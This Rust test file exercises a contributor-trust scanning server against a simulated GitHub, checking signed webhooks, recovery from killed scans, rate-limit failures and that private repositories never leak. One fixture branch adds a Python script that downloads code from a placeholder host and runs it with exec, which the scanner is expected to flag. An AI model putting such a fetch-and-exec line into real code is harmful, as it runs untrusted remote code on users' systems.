//! Contributor trust on a real server, with the stand-in for GitHub and pull requests from branches of real bare repositories: signed
//! events, kills during a scan, exhausted limits, and a private repository that is in no reply, event or file.

use std::path::Path;
use std::process::Command;

use serde_json::{Value, json};

use crate::code_host::{StandIn, output};
use crate::receiver::{Answer, Receiver};
use crate::server::{Server, assert_in_no_file, everywhere, files_below, wait_for};
use crate::webhooks::verify;

const SCANS: &str = "/contributors/octo/trust-scans";
/// Name of the private repository, and a line of its branch.
const PRIVATE: [&str; 2] = ["hidden-plans", "line-of-the-hidden-branch"];

fn git(work: &Path, arguments: &[&str]) {
    let done = Command::new("git")
        .arg("-C")
        .arg(work)
        .args(["-c", "user.name=Octo", "-c", "user.email=octo@example.com"])
        .args(arguments)
        .envs([("GIT_CONFIG_GLOBAL", "/dev/null"), ("GIT_CONFIG_NOSYSTEM", "1")])
        .output()
        .unwrap();
    assert!(done.status.success(), "git {arguments:?}: {}", String::from_utf8_lossy(&done.stderr));
}

/// A bare repository with a branch for each change; its path.
pub(crate) fn bare(directory: &Path, name: &str, branches: &[(&str, &str, &str)]) -> String {
    let (work, target) = (directory.join(name), directory.join(format!("{name}.git")));
    std::fs::create_dir_all(&work).unwrap();
    git(&work, &["init", "--quiet", "--initial-branch=main"]);
    std::fs::write(work.join("README.md"), "# Tool\n").unwrap();
    git(&work, &["add", "--all"]);
    git(&work, &["commit", "--quiet", "--message", "Begin"]);
    for (branch, file, text) in branches {
        git(&work, &["checkout", "--quiet", "-b", branch, "main"]);
        let file = work.join(file);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(&file, text).unwrap();
        git(&work, &["add", "--all"]);
        git(&work, &["commit", "--quiet", "--message", branch]);
    }
    git(&work, &["clone", "--quiet", "--bare", ".", target.to_str().unwrap()]);
    target.to_str().unwrap().to_owned()
}

fn pull(repository: &str, number: u64, head: &str) -> Value {
    json!({
        "repository": repository, "number": number, "title": format!("Change {number}"), "body": "Fixes #1.",
        "state": "open", "author": "octo", "author_association": "CONTRIBUTOR", "merged_at": null,
        "created_at": format!("2026-04-0{number}T00:00:00Z"), "head": head,
    })
}

/// The stand-in with the contributor octo, whose private repository is in every listing.
fn world() -> Option<StandIn> {
    let mut stand_in = StandIn::start()?;
    let script = "import urllib.request as u\nexec(u.urlopen('https://host.example.dev/x').read())\n";
    let branches = [("good", "src/lib.rs", "fn a() {}\n"), ("bad", "tool/run.py", script)];
    let open = bare(&stand_in.file("git"), "open", &branches);
    let hidden = bare(&stand_in.file("git"), "hidden", &[("plan", "plan.txt", PRIVATE[1])]);
    let state = &mut stand_in.state;
    state["leaks"] = json!(true);
    state["installations"]["7"]["repositories"] = json!([42, 70, 71]);
    state["repositories"]["60"] = json!({"full_name": "open/tool", "git": open});
    state["repositories"]["70"] = json!({"full_name": "octo/hidden-plans", "git": hidden, "private": true});
    state["repositories"]["71"] = json!({"full_name": "acme/hidden-plans", "git": hidden, "private": true});
    let event = |name: &str| {
        json!({"id": "1", "type": "PullRequestReviewEvent", "public": true, "created_at": "2026-03-04T00:00:00Z",
            "repo": {"id": 1, "name": name, "url": "https://github.example/x"}})
    };
    state["users"]["octo"] = json!({
        "profile": {"id": 5, "type": "User", "followers": 20, "public_repos": 1, "created_at": "2011-01-25T18:44:36Z"},
        "events": [event("open/tool"), event("octo/hidden-plans"), event("acme/hidden-plans")],
        "gpg_keys": [{"id": 1, "can_sign": true, "revoked": false}],
        "ssh_signing_keys": [],
        "orgs": [{"id": 1, "login": "octo-org"}],
    });
    state["users"]["octa"] = state["users"]["octo"].clone();
    state["pulls"] = json!([
        pull("open/tool", 1, "good"),
        pull("open/tool", 2, "bad"),
        pull("octo/hidden-plans", 3, "plan"),
        pull("acme/hidden-plans", 4, "plan"),
    ]);
    stand_in.put_state();
    Some(stand_in)
}

/// A server that is connected to the stand-in and has a webhook at a receiver, which every source filter excludes.
fn serve(stand_in: &StandIn, receiver: &Receiver) -> (Server, Value) {
    let mut server = Server::unstarted().verbose();
    let webhook = connect(&mut server, stand_in, receiver);
    (server, webhook)
}

/// Starts a server with these connections; the webhook.
fn connect(server: &mut Server, stand_in: &StandIn, receiver: &Receiver) -> Value {
    stand_in.register(server);
    server.set("PALISADE__WEBHOOKS__RETRY_SECONDS", "[1, 1, 1, 1, 1, 1, 1, 1]");
    server.run();
    let refused = server.send("POST", SCANS, &json!({}));
    assert!(refused.status == 409 && refused.text().contains("installation"), "{}", refused.text());
    let bound = output(server, &["code-host", "bind", "7"]);
    assert!(bound.contains("is connected"), "{bound}");
    let body = json!({
        "name": "trust",
        "url": receiver.url(),
        "events": ["contributor_trust.finished"],
        "sources": {"repositories": [], "applications": [], "agents": [], "infrastructure": []},
    });
    let created = server.send("POST", "/webhooks", &body);
    assert_eq!(created.status, 201, "{}", created.text());
    created.json()
}

fn start(server: &Server, path: &str) -> String {
    let begun = server.send("POST", path, &json!({}));
    assert_eq!(begun.status, 202, "{}", begun.text());
    format!("/contributor-trust-scans/{}", begun.json()["id"].as_str().unwrap())
}

fn ended(server: &Server, path: &str) -> Value {
    wait_for("the scan ends", || {
        let scan = server.get(path);
        ["completed", "failed"].contains(&scan["status"].as_str().unwrap()).then_some(scan)
    })
}

#[test]
fn a_scan_reads_public_data_only_and_its_event_arrives_signed() {
    let Some(stand_in) = world() else { return };
    let receiver = Receiver::start(Answer::Status(204));
    let (mut server, webhook) = serve(&stand_in, &receiver);
    let scan = ended(&server, &start(&server, SCANS));
    assert_eq!(
        (scan["status"].as_str(), scan["analyzed_pr_count"].as_u64()),
        (Some("completed"), Some(2)),
        "{scan}"
    );
    let evidence: Vec<_> = scan["public_evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|one| {
            (
                one["number"].as_u64().unwrap(),
                one["verdict"].as_str().unwrap(),
                one["files_reviewed"][0].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(evidence, [(2, "review", "tool/run.py"), (1, "clean", "src/lib.rs")]);
    assert_eq!(scan["sub_scores"]["content"], 40, "a chain: {scan}");
    let received = receiver.wait_for(1);
    verify(&received[0], webhook["secret"].as_str().unwrap());
    let event = received[0].json();
    assert_eq!(
        (event["type"].as_str(), &event["data"]["object"]),
        (Some("contributor_trust.finished"), &scan)
    );
    let cached = server.get("/contributors/OCTO/trust");
    assert_eq!((&cached["score"], &cached["public_evidence"]), (&scan["score"], &scan["public_evidence"]));
    let seen = stand_in.seen();
    assert_eq!(seen["differences"], json!([]), "every request is as GitHub describes it");
    assert!(seen["requests"].as_array().unwrap().len() < 60, "{seen}");
    for text in [&scan, &event, &cached] {
        assert!(PRIVATE.iter().all(|secret| !text.to_string().contains(secret)), "{text}");
    }
    assert!(server.interrupt());
    let mut files = files_below(&server.data_dir());
    files.push(server.output());
    // The repository's own row names it; nothing names its files, its pull requests or the code of any.
    assert_in_no_file(&files, &[PRIVATE[1], "plan.txt", "host.example.dev", "hidden-plans/pull"]);
}

#[test]
fn a_scan_whose_process_is_killed_ends_with_exactly_one_event() {
    let Some(stand_in) = world() else { return };
    everywhere("killed scans of contributors", |server| {
        let receiver = Receiver::start(Answer::Status(204));
        assert!(server.interrupt());
        connect(server, &stand_in, &receiver);
        // At the beginning, and when most of the data was read.
        for (login, held) in [("octo", "/users/octo"), ("octa", "/users/octa/gpg_keys")] {
            stand_in.faults(&json!([{"match": format!("GET {held}([?]|$)"), "times": 1, "kind": "hold"}]));
            let path = format!("/contributors/{login}/trust-scans");
            let scan = start(server, &path);
            wait_for("the scan waits for the host", || {
                let seen = stand_in.seen();
                let requests = seen["requests"].as_array().unwrap();
                requests.iter().any(|one| one["path"].as_str().unwrap() == held).then_some(())
            });
            server.kill();
            stand_in.faults(&json!([]));
            server.run();
            assert_eq!(server.send("POST", &path, &json!({})).status, 409, "it is still active");
            let ended = ended(server, &scan);
            assert_eq!(ended["status"], "completed", "{ended}");
        }
        assert_eq!(receiver.wait_for(2).len(), 2);
        let listed = server.get("/webhook-deliveries?limit=100");
        assert_eq!(listed["pagination"]["total"], 2, "{listed}");
    });
}

#[test]
fn an_exhausted_limit_and_an_unknown_login_are_failed_scans() {
    let Some(stand_in) = world() else { return };
    let receiver = Receiver::start(Answer::Status(204));
    let (server, _) = serve(&stand_in, &receiver);
    let unknown = ended(&server, &start(&server, "/contributors/nobody/trust-scans"));
    assert_eq!(unknown["error"]["message"], "the code host has no such login, or does not show it");
    let limit = json!({"x-ratelimit-remaining": "0", "x-ratelimit-reset": "9999999999"});
    let reply = json!({"match": "GET /users/octo", "times": 9, "kind": "reply", "status": 403,
        "body": "{\"message\": \"API rate limit exceeded\"}", "headers": limit});
    stand_in.faults(&json!([reply]));
    let failed = ended(&server, &start(&server, SCANS));
    let message = failed["error"]["message"].as_str().unwrap();
    assert!(failed["status"] == "failed" && message.contains("rate limit"), "{failed}");
    let received = receiver.wait_for(2);
    let statuses: Vec<_> =
        received.iter().map(|one| one.json()["data"]["object"]["status"].clone()).collect();
    assert_eq!(statuses, ["failed", "failed"]);
}

#[test]
fn evidence_of_a_repository_that_becomes_private_is_in_no_later_reply() {
    let Some(mut stand_in) = world() else { return };
    let receiver = Receiver::start(Answer::Status(204));
    let (mut server, _) = serve(&stand_in, &receiver);
    let path = start(&server, SCANS);
    assert_eq!(ended(&server, &path)["public_evidence"].as_array().unwrap().len(), 2);
    stand_in.state["repositories"]["60"]["private"] = json!(true);
    stand_in.put_state();
    // Another process has no confirmation that it could use again.
    server.kill();
    server.run();
    for path in [path.as_str(), "/contributors/octo/trust"] {
        let result = server.get(path);
        assert_eq!((&result["public_evidence"], &result["coverage"]["complete"]), (&json!([]), &json!(true)));
        assert!(!result.to_string().contains("open/tool"), "{result}");
    }
}

#[test]
fn a_search_that_ended_early_is_named_in_the_result() {
    let Some(stand_in) = world() else { return };
    let receiver = Receiver::start(Answer::Status(204));
    let (server, _) = serve(&stand_in, &receiver);
    stand_in.faults(&json!([{"match": "/search/issues", "times": 2, "kind": "partial", "keep": 1}]));
    let scan = ended(&server, &start(&server, SCANS));
    assert_eq!(
        scan["coverage"]["skipped"],
        json!([{"what": "pull_requests", "reason": "search_incomplete"}]),
        "{scan}"
    );
    assert_eq!((&scan["status"], &scan["confidence"]), (&json!("completed"), &json!("low")));
    let searches = |seen: &Value| {
        let requests = seen["requests"].as_array().unwrap().clone();
        requests.iter().filter(|one| one["path"] == "/search/issues").count()
    };
    assert_eq!(searches(&stand_in.seen()), 2);
}

#[test]
fn a_scan_of_a_busy_login_sends_at_most_sixty_requests() {
    let Some(mut stand_in) = world() else { return };
    let mut pulls = Vec::new();
    for number in 0..250 {
        let name = format!("org{}/r{number}", number % 9);
        stand_in.state["repositories"][(1_000 + number).to_string()] = json!({"full_name": name});
        let day = format!("2026-0{}-{:02}T00:00:00Z", 1 + number / 28 % 9, 1 + number % 28);
        let mut one = pull(&name, 1, "none");
        one.as_object_mut().unwrap().remove("head");
        (one["created_at"], one["files"]) = (json!(day), json!([]));
        pulls.push(one);
    }
    stand_in.state["pulls"] = json!(pulls);
    let events = (0..400).map(|number| {
        json!({"id": "1", "type": "PushEvent", "public": true, "created_at": "2026-03-04T00:00:00Z",
            "repo": {"id": 1, "name": format!("org/e{number}"), "url": "https://github.example/x"}})
    });
    stand_in.state["users"]["octo"]["events"] = events.collect();
    stand_in.put_state();
    let receiver = Receiver::start(Answer::Status(204));
    let (server, _) = serve(&stand_in, &receiver);
    let scan = ended(&server, &start(&server, SCANS));
    assert_eq!(
        (scan["status"].as_str(), scan["confidence"].as_str()),
        (Some("completed"), Some("high")),
        "{scan}"
    );
    let seen = stand_in.seen();
    let is_of_scan = |one: &&Value| {
        let path = one["path"].as_str().unwrap();
        // A read of the result asks again for the ten repositories of its evidence, which have not changed.
        one["not_modified"].is_null()
            && ["/users/", "/repos/", "/search/"].iter().any(|start| path.starts_with(start))
    };
    let sent = seen["requests"].as_array().unwrap().iter().filter(is_of_scan).count();
    // The other three are two pages of a repeated search, and a search for fewer pull requests after a reply that was too large.
    assert_eq!((sent, &seen["differences"]), (57, &json!([])));
}
